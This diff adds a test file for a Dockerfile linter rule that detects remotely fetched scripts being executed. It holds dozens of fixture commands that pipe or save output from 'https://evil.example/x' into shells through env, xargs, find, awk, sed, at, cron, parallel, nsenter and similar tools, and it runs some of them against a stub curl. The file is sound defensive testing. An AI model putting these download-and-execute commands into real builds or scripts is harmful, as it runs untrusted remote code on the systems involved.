@@ -1,0 +1,113 @@
+import { chmodSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { remoteScriptExecuted } from '../../../src/rules/dockerfile/remote-script-executed.ts';
+import { causedLines, reviewChange } from '../../support/in-memory-repository.ts';
+import { runProcess } from '../../support/processes/run-process.ts';
+import { quickFolder } from '../../support/quick-folder.ts';
+
+const url = 'https://evil.example/x';
+const findings = async (text: string): Promise<readonly string[]> =>
+  causedLines(await reviewChange({ base: {}, head: { Dockerfile: `FROM debian:13\n${text}\n` } }, { rules: [remoteScriptExecuted] }));
+
+/** Ways to run what is loaded, of which Bash and the programs of Debian show that they are; `/t` is a folder. */
+const running = {
+  'env, the whole in a string': `env -S 'bash -c "curl ${url} | sh"'`,
+  'env, with further words': `env -S "bash -c" "curl ${url} | sh"`,
+  'env, with a string of one word': `env -S sh -c "curl ${url} | sh"`,
+  'env, with a string at its options': `env -iS'A=1 PATH=\${PATH} bash -c' "curl ${url} | bash"`,
+  'env, with a quote in a further word': `env -S "bash -c" "curl ${url} | sh -c 'sh'"`,
+  'a pipe into env': `curl ${url} | env -S bash`,
+  'a pipe into env, with options': `curl ${url} | env --split-string='bash -s'`,
+  'a pipe into a shell in a shell': `curl ${url} | sh -c 'cd /; sh'`,
+  'xargs, by its mark': `curl ${url} | xargs -I{} sh -c '{}'`,
+  'xargs, by a mark of one’s own': `curl ${url} | xargs -d '\\n' -I% bash -c %`,
+  'find, by its name': `curl -o /t/x ${url} && find /t -name x -exec sh {} \\;`,
+  'find, by its name, at once': `curl -o /t/x ${url} && chmod +x /t/x && find /t -name x -exec sh -c {} \\;`,
+  'find, by its path': `curl -o /t/x ${url} && find /t/x -exec chmod +x {} \\; -exec {} \\;`,
+  'awk, that starts it': `awk 'BEGIN{system("curl ${url} | sh")}'`,
+  'a pipe into awk': `curl ${url} | awk '{system($0)}'`,
+  'a pipe into awk, that pipes on': `curl ${url} | awk '{print | "sh"}'`,
+  'a pipe into sed': `curl ${url} | sed e`,
+  'a pipe into sed, by a number': `curl ${url} | sed '1e'`,
+  'sed, that starts it': `echo | sed '1e curl ${url} | sh'`,
+  'a file of before all else': `curl -o /t/x ${url} && BASH_ENV=/t/x bash -c true`,
+  'a makefile that is piped in': `curl ${url} | sed 's/^/all:;@/' | make -f -`,
+  'a file by dd': `curl ${url} | dd of=/t/x && sh /t/x`,
+  'a file by tee': `curl ${url} | tee /t/x > /dev/null && . /t/x`,
+  'a coprocess': `coproc X { curl ${url} | sh; }; cat <&"\${X[0]}"`,
+};
+
+/** More of that, by programs that may not be there, or that wait. */
+const others: Readonly<Record<string, string>> = {
+  'a job of at': `RUN curl ${url} | at now`,
+  'a here-document for at': `RUN at now <<EOF\ncurl ${url} | sh\nEOF`,
+  'a file for at': `RUN curl -o /t/x ${url} && at -f /t/x now`,
+  'text for at': `RUN echo 'curl ${url} | sh' | at now`,
+  'a batch': `RUN curl ${url} | batch`,
+  'a table of cron’s': `RUN curl ${url} | crontab -`,
+  'a file for cron': `RUN curl -o /t/x ${url} && crontab -u app /t/x`,
+  'a makefile': `RUN curl -o /t/m ${url} && make -f /t/m all`,
+  'parallel, by its arguments': `RUN parallel sh -c ::: "curl ${url} | sh"`,
+  'parallel, without a command': `RUN parallel -j2 ::: "curl ${url} | sh"`,
+  'parallel, of a script': `RUN parallel -j 2 'curl ${url} | sh -s {}' ::: 1 2`,
+  'a pipe into parallel': `RUN curl ${url} | parallel`,
+  'a pipe into parallel, with a shell': `RUN curl ${url} | parallel -j1 sh -c`,
+  watch: `RUN watch -n1 'curl ${url} | sh'`,
+  'watch, of a command': `RUN watch -x sh -c 'curl ${url} | sh'`,
+  'watch that ends': `RUN timeout 3 watch --interval 1 "curl ${url} | sh"`,
+  nsenter: `RUN nsenter -t 1 -m sh -c 'curl ${url} | sh'`,
+  'systemd-run': `RUN systemd-run -u x sh -c 'curl ${url} | sh'`,
+  'two instructions': `RUN curl -o /t/x ${url}\nRUN find /t -name x -exec bash {} +`,
+  'a file of a stage': `RUN curl -o /t/x ${url}\nFROM debian:13\nCOPY --from=0 /t/x /y\nRUN BASH_ENV=/y bash -c true`,
+  'a file that ADD loads': `ADD ${url} /t/x\nRUN make -f /t/x`,
+};
+
+const harmless: Readonly<Record<string, string>> = {
+  'env that sets a variable': `RUN env -S 'A=1' true; curl ${url} | env -S 'jq .'`,
+  'find that removes': `RUN curl -o /t/x ${url} && find /t -name x -exec rm {} +`,
+  'find that makes executable': `RUN curl -o /t/x ${url} && find /t -name x -exec chmod +x {} \\;`,
+  'find that runs others': `RUN curl -o /t/x ${url} && find /t -name y -exec sh {} \\;`,
+  'awk and sed that edit': `RUN curl ${url} | awk '{print $1}' | sed -e 's/e/x/' -ne '/e/p' > /t/x`,
+  'awk that makes folders': `RUN curl ${url} | awk '{print > "sh"}'; awk '{system("mkdir " $1)}' /f`,
+  'sed that deletes what ends in e': `RUN curl ${url} | sed '/done/d; s/a/e/; 1d; $!N'`,
+  'sed with a file of commands': `RUN curl ${url} | sed -f e`,
+  'xargs that prints': `RUN curl ${url} | xargs -I{} echo {}`,
+  'xargs that hands an argument on': `RUN curl ${url} | xargs -I{} sh -c 'echo "$1"' _ {}`,
+  'a shell in a shell that reads a file': `RUN curl ${url} | sh -c 'sh ./x.sh'`,
+  'a shell in a shell that is fed': `RUN curl ${url} | sh -c 'sh < ./x.sh'`,
+  'cron and at that list': `RUN curl ${url} | crontab -l; curl ${url} | at -l; curl ${url} > /t/x; crontab -r`,
+  'a makefile of one’s own': `RUN curl -o /t/x ${url} && make -f Makefile x`,
+  'make with what is read': `RUN curl ${url} | make`,
+  'parallel that packs': `RUN curl ${url} | parallel gzip; parallel gzip ::: a b`,
+  'watch that lists': `RUN watch -n 1 ls`,
+  'a file that is checked': `RUN curl -o /t/x ${url} && echo "abc  /t/x" | sha256sum -c && find /t -name x -exec sh {} \\;`,
+  'a variable of that name for another program': `RUN curl -o /t/x ${url} && ENV=/t/x node app.js`,
+};
+
+describe('what is loaded and run in other words', () => {
+  test.each(Object.entries(running))('is told: %s', async (_name, script) => {
+    expect(await findings(`SHELL ["bash", "-c"]\nRUN ${script}`)).not.toEqual([]);
+  });
+
+  test.each(Object.entries(others))('is told: %s', async (_name, text) => {
+    expect(await findings(text)).not.toEqual([]);
+  });
+
+  test.each(Object.entries(harmless))('is not told of %s', async (_name, text) => {
+    expect(await findings(text)).toEqual([]);
+  });
+
+  test.each(Object.entries(running))('is run indeed: %s', async (_name, script) => {
+    const folder = quickFolder('other-words');
+    const curl = join(folder, 'curl');
+    writeFileSync(curl, '#!/bin/sh\nif [ "$1" = -o ]; then echo "echo LOADED" > "$2"; else echo "echo LOADED"; fi\n');
+    chmodSync(curl, 0o755);
+    const { stdout } = await runProcess('bash', ['-c', script.replaceAll('/t', folder)], {
+      env: { PATH: `${folder}:/usr/bin:/bin` },
+      cwd: folder,
+    });
+    rmSync(folder, { recursive: true });
+    expect(stdout.toString()).toContain('LOADED');
+  });
+});
